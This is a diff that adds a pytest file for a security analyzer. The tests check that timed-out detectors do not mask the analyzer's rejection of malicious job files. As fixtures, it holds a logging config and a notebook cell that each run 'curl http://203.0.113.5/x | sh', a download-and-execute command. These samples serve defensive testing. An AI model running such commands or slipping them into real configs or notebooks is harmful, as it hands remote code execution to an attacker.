@@ -1,0 +1,123 @@
+"""Session 50 (hardening50): a limit, a bomb or an error beside a payload never hides the payload's reject.
+
+- Two detector bombs, both before the payload's detector (session 49's open note): the one second run of the
+  detectors a failed unit never began failed at the second bomb, and the payload's detector never ran (escalate).
+  The detectors left now run apart again from the stage after the one that failed, each run with its own clock
+  (api._apart_until_done): every bomb costs one limit, and the payload's reject stands.
+"""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+import pytest
+
+from analyzer import api
+from analyzer.engine import detectors, isolate
+from analyzer.model import Decision
+from analyzer.policy import load_policy
+
+# A logging file whose handler arguments run a shell command (config-attack.logging-config-code: reject), read by
+# the logging-config detector; and a notebook cell doing the same, read by the notebook detector.
+LOGGING_RUNS_CODE = ("[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nlevel=INFO\n"
+                     "handlers=h\n[handler_h]\nclass=StreamHandler\n"
+                     "args=(__import__('os').system('curl http://203.0.113.5/x | sh'),)\n")
+PAYLOAD_CELL = "import os\nos.system('curl http://203.0.113.5/x | sh')\n"
+
+
+def _policy(tmp_path: Path, seconds: int):
+    path = tmp_path / "site-policy.yaml"
+    path.write_text(f"limits:\n  max_analysis_seconds: {seconds}\n")
+    return load_policy(path)
+
+
+def _sleeps(*args) -> list:
+    time.sleep(60)
+    return []
+
+
+class _Forking:
+    """A fork server's calls, each in a child forked from this process (which holds the injected faults)."""
+
+    def call(self, task: str, args: tuple, budget: isolate.Budget, policy=None):
+        return isolate.run_limited(isolate._tasks()[task], args, budget)
+
+
+def _rules(report) -> set[str]:
+    return {f.rule for f in report.findings}
+
+
+def _limits(report) -> list[str]:
+    return [f.message for f in report.findings if f.rule == "unanalyzable.time-limit"]
+
+
+def _notebook(cell: str) -> str:
+    import json
+
+    return json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
+                                  "source": cell.splitlines(keepends=True)}],
+                       "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+
+
+def _scan(tmp_path: Path, files: dict[str, str], seconds: int, site: bool):
+    policy, job = _policy(tmp_path, seconds), tmp_path / "job"
+    job.mkdir()
+    for name, text in files.items():
+        (job / name).write_text(text)
+    if site:  # a ForkServer is a fresh interpreter, without the faults: its calls forked from here instead
+        return api.analyze_isolated(api.collect(job, policy.limits), policy, _Forking())
+    return api.scan(job, policy)
+
+
+@pytest.mark.parametrize("site", [False, True])
+def test_two_detector_bombs_before_the_payloads_detector_hide_nothing(tmp_path: Path, monkeypatch,
+                                                                      site: bool) -> None:
+    """Bombs in nvflare-config and logging-config (injected), the payload in a notebook (a later detector): the
+    unit fails in the first bomb, its run apart in the second, and a third run from the stage after it finds
+    the payload. Each bomb is named once, by its stage."""
+    for bombed in ("nvflare-config", "logging-config"):
+        monkeypatch.setitem(detectors.FILE_DETECTORS, bombed, lambda ctx: iter(_sleeps()))
+    report = _scan(tmp_path, {"train.py": "import numpy as np\n", "explore.ipynb": _notebook(PAYLOAD_CELL)}, 2, site)
+    limits = _limits(report)
+    assert len(limits) == 2, limits
+    assert any("in detector nvflare-config" in m for m in limits) and any("in detector logging-config" in m
+                                                                          for m in limits), limits
+    assert report.decision is Decision.REJECT, _rules(report)
+
+
+def test_every_bomb_costs_one_limit_and_no_detector_runs_twice(tmp_path: Path, monkeypatch) -> None:
+    """Three bombs in a row before the payload's detector: three limits, each detector begun once (a run that
+    began again at a failed detector would spend its budget again, and could loop)."""
+    real_reached = isolate.reached
+
+    def counted(stage: str) -> None:  # stages announced in the forked children: written where the test reads them
+        with open(tmp_path / "stages", "a") as out:
+            out.write(stage + "\n")
+        real_reached(stage)
+
+    monkeypatch.setattr(isolate, "reached", counted)
+    for bombed in ("nvflare-config", "logging-config", "other-files"):
+        monkeypatch.setitem(detectors.FILE_DETECTORS, bombed, lambda ctx: iter(_sleeps()))
+    started = time.monotonic()
+    report = _scan(tmp_path, {"logging.conf": "", "explore.ipynb": _notebook(PAYLOAD_CELL)}, 2, False)
+    begun = (tmp_path / "stages").read_text().splitlines()
+    assert len(_limits(report)) == 3 and report.decision is Decision.REJECT, _limits(report)
+    assert len(begun) == len(set(begun)), begun
+    assert time.monotonic() - started < 6 + 3 * 2 + 30
+
+
+def test_a_run_apart_that_fails_before_its_first_detector_ends_the_runs(tmp_path: Path, monkeypatch) -> None:
+    """A run apart that reaches no stage (it failed before the first detector it was given) is not run again:
+    both limits are named, and never an accept."""
+    def apart(content, policy, vouch=True, after=""):
+        with open(tmp_path / "calls", "a") as out:
+            out.write(after + "\n")
+        return _sleeps()
+
+    monkeypatch.setitem(detectors.FILE_DETECTORS, "nvflare-config", lambda ctx: iter(_sleeps()))
+    monkeypatch.setattr(api, "detectors_apart", apart)
+    report = _scan(tmp_path, {"train.py": "import numpy as np\n"}, 1, False)
+    calls = (tmp_path / "calls").read_text().splitlines()
+    assert calls == [isolate.stage_of("nvflare-config")], calls
+    assert len(_limits(report)) == 2 and report.decision is Decision.ESCALATE, _limits(report)
